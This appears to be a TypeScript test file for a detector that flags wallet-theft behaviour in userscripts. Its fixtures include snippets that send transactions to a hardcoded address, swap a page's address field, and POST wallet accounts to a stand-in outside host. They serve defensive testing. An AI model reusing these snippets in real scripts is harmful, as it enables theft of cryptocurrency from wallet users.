import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { walletTheft } from "./wallet-theft.ts";

describe("wallet-theft", () => {
	test.each([
		[
			"a payment to its own address",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`ethereum.request({method:"eth_sendTransaction",params:[{to:"0x52908400098527886E0F7030069857D2E4169EE7",value:"0x1"}]})`,
			),
		],
		[
			"a signature by itself",
			["high 5"],
			userscript(["match https://shop.example/*"], `ethereum.request({method:"personal_sign",params:["hello"]})`),
		],
		[
			"a wallet that is opened",
			["medium 5"],
			userscript(["match https://shop.example/*"], `ethereum.request({method:"eth_requestAccounts"})`),
		],
		[
			"a swapped address on the page",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`document.querySelector("input[name=address]").value="0x52908400098527886E0F7030069857D2E4169EE7"`,
			),
		],
		[
			"accounts sent away",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`ethereum.request({method:"eth_accounts"}).then(a=>fetch("https://c.stranger.test/",{method:"POST",body:JSON.stringify(a)}))`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(walletTheft, code)).toEqual(expected);
	});

	test.each([
		[
			"a balance that is shown",
			userscript(
				["match https://shop.example/*"],
				`ethereum.request({method:"eth_getBalance",params:["x","latest"]}).then(b=>{document.title=b})`,
			),
		],
		[
			"a button that connects",
			userscript(
				["match https://shop.example/*"],
				`const b=document.createElement("button");document.body.append(b);
b.onclick=()=>ethereum.request({method:"eth_requestAccounts"})`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(walletTheft, code)).toEqual([]);
	});
});
